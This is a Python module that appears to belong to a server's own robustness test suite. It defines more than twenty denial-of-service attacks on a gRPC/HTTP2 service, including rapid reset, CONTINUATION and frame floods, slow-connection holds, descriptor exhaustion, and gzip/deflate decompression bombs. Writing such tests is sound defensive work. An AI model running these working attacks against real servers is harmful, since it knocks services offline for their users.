"""What an attacker without an account does to a server, and one thing that a member's broken device does.

Each attack takes a target and a scale: 1 for the sizes at which gRPC 1.51 falls over alone, less for a quick look.
"""

import contextlib
import gzip
import random
import struct
import time
import zlib

import h2

# A call that needs no account to be parsed.
_METHOD = "/toward.v1.AccountService/RegisterReplica"
_PUSH = "/toward.v1.SyncService/Push"
_WATCH = "/toward.v1.SyncService/Watch"
_MEBIBYTE = 1024 * 1024
_FLOOD_BATCH = 500


class Crowd(contextlib.ExitStack):
    """Connections that end together. Those that are refused are missing."""

    def __init__(self, target, count, **options):
        super().__init__()
        self.connections = []
        for _ in range(count):
            with contextlib.suppress(OSError):
                self.connections.append(self.enter_context(contextlib.closing(h2.Connection(target, **options))))

    def hold(self, seconds, each=lambda connection: None, pause=0.2):
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for connection in self.connections:
                each(connection)
            time.sleep(pause)


@contextlib.contextmanager
def connected(target, *pairs, acknowledge=True):
    with contextlib.closing(h2.Connection(target)) as connection:
        connection.greet(*pairs, acknowledge=acknowledge)
        yield connection


def fd_flood(target, scale):
    with Crowd(target, int(2 * target.descriptors * scale), handshake=False) as crowd:
        crowd.hold(0.5)


def idle_connects(target, scale):
    with Crowd(target, 100) as crowd:
        crowd.hold(2 + 10 * (scale == 1))


def slow_preface(target, scale):
    sent = iter(range(len(h2.PREFACE)))
    with Crowd(target, 50) as crowd:
        for at, _ in zip(sent, range(3 if scale < 1 else 12)):
            crowd.hold(0.8, lambda connection: connection.send(h2.PREFACE[at:at + 1]), pause=1)


def slow_body(target, scale):
    with Crowd(target, 30) as crowd:
        for connection in crowd.connections:
            connection.greet()
            connection.call(1, _METHOD, h2.message(b"", declared=10_000), end=False)
        crowd.hold(2 if scale < 1 else 30, lambda connection: connection.send(h2.frame(h2.DATA, 0, 1, b"x")), pause=1)


def large_header(target, scale):
    _large_header(target, acknowledge=True)


def large_header_unacknowledged(target, scale):
    _large_header(target, acknowledge=False)


def _large_header(target, acknowledge):
    with connected(target, acknowledge=acknowledge) as connection:
        if acknowledge:
            connection.drain(0.2)
        block = h2.call_headers(_METHOD, x_large=b"x" * 1_000_000)
        parts = [block[at:at + h2.MOST_FRAME_BYTES] for at in range(0, len(block), h2.MOST_FRAME_BYTES)]
        connection.send(h2.frame(h2.HEADERS, h2.END_STREAM, 1, parts[0]))
        for part in parts[1:-1]:
            connection.send(h2.frame(h2.CONTINUATION, 0, 1, part))
        connection.send(h2.frame(h2.CONTINUATION, h2.END_HEADERS, 1, parts[-1]))
        connection.drain(0.5)


def continuation_flood(target, scale):
    with connected(target, acknowledge=False) as connection:
        connection.send(h2.frame(h2.HEADERS, 0, 1, h2.call_headers(_METHOD)))
        part = h2.frame(h2.CONTINUATION, 0, 1, b"".join([h2.field("x", b"x" * 500)] * 32)[:h2.MOST_FRAME_BYTES])
        _flood(connection, part, int(200 * _MEBIBYTE * scale) // len(part), batch=16)


def rapid_reset(target, scale):
    with connected(target) as connection:
        headers = h2.call_headers(_METHOD)
        for first in range(0, int(60_000 * scale), _FLOOD_BATCH):
            streams = range(2 * first + 1, 2 * (first + _FLOOD_BATCH) + 1, 2)
            if not connection.send(
                b"".join(h2.frame(h2.HEADERS, h2.END_HEADERS, each, headers) + h2.reset(each) for each in streams)
            ):
                break


def unacknowledged_streams(target, scale):
    with connected(target, acknowledge=False) as connection:
        headers = h2.call_headers(_METHOD)
        for stream in range(1, 2_000, 2):
            connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, headers))
        time.sleep(1)


def large_message(target, scale):
    size = int(200 * _MEBIBYTE * scale)
    with connected(target) as connection:
        connection.call(1, _METHOD, h2.message(b"", declared=size), end=False)
        connection.send_body(1, size)


def declared_4_gib(target, scale):
    with Crowd(target, 20) as crowd:
        for connection in crowd.connections:
            connection.greet()
            connection.call(1, _METHOD, h2.message(b"x" * 100, declared=0xFFFFFFFF), end=False)
        crowd.hold(0.5)


def gzip_bomb(target, scale):
    _bomb(target, "gzip", gzip.compress, scale)


def deflate_bomb(target, scale):
    _bomb(target, "deflate", zlib.compress, scale)


def _bomb(target, encoding, compress, scale):
    for mebibytes in (60, 1_000) if scale == 1 else (60,):
        bomb = h2.message(compress(bytes(mebibytes * _MEBIBYTE)), compressed=True)
        with connected(target) as connection:
            connection.call(1, _METHOD, end=False, grpc_encoding=encoding)
            connection.send_body(1, len(bomb), chunk=bomb)
            connection.send(h2.frame(h2.DATA, h2.END_STREAM, 1))
            connection.drain(0.5)


def nested_fields(target, scale):
    _bodies(target, b"\x0b" * 128 * 1024)


def unknown_fields(target, scale):
    _bodies(target, b"\xf8\x7f\x01" * (128 * 1024 // 3))


def _bodies(target, body):
    for method in (_METHOD, _PUSH, _WATCH):
        with connected(target) as connection:
            message = h2.message(body)
            connection.call(1, method, end=False)
            for at in range(0, len(message), h2.MOST_FRAME_BYTES):
                connection.send_body(1, len(message[at:at + h2.MOST_FRAME_BYTES]), message[at:at + h2.MOST_FRAME_BYTES])
            connection.send(h2.frame(h2.DATA, h2.END_STREAM, 1))
            connection.drain(0.3)


def ping_flood(target, scale):
    _frames(target, h2.frame(h2.PING, payload=bytes(8)), scale)


def settings_flood(target, scale):
    _frames(target, h2.settings(pairs=[(h2.SETTINGS_INITIAL_WINDOW_SIZE, 65_535)]), scale)


def priority_flood(target, scale):
    _frames(target, h2.frame(h2.PRIORITY, stream=3, payload=struct.pack("!IB", 0, 16)), scale)


def window_update_flood(target, scale):
    _frames(target, h2.window_update(0, 1), scale)


def _frames(target, one, scale):
    with connected(target) as connection:
        _flood(connection, one, int(500_000 * scale))


def _flood(connection, one, count, batch=_FLOOD_BATCH):
    for _ in range(max(1, count // batch)):
        if not connection.send(one * batch):
            break


def random_bytes(target, scale):
    """The seed is always the same."""
    noise = random.Random(6_4)
    for _ in range(20):
        with connected(target) as connection:
            connection.send(noise.randbytes(20_000))
            connection.drain(0.05)


def zero_window_watch(target, scale):
    """A member's device that asks for everything and takes nothing."""
    with Crowd(target, 8) as crowd:
        for connection in crowd.connections:
            connection.greet((h2.SETTINGS_INITIAL_WINDOW_SIZE, 0))
            for stream in (1, 3):
                connection.call(stream, _WATCH, h2.message(b""), authorization=f"Bearer {target.token}")
        crowd.hold(2 if scale < 1 else 20)


ALL = [
    fd_flood, idle_connects, slow_preface, slow_body, large_header, large_header_unacknowledged, continuation_flood,
    rapid_reset, unacknowledged_streams, large_message, declared_4_gib, gzip_bomb, deflate_bomb, nested_fields,
    unknown_fields, ping_flood, settings_flood, priority_flood, window_update_flood, random_bytes, zero_window_watch,
]
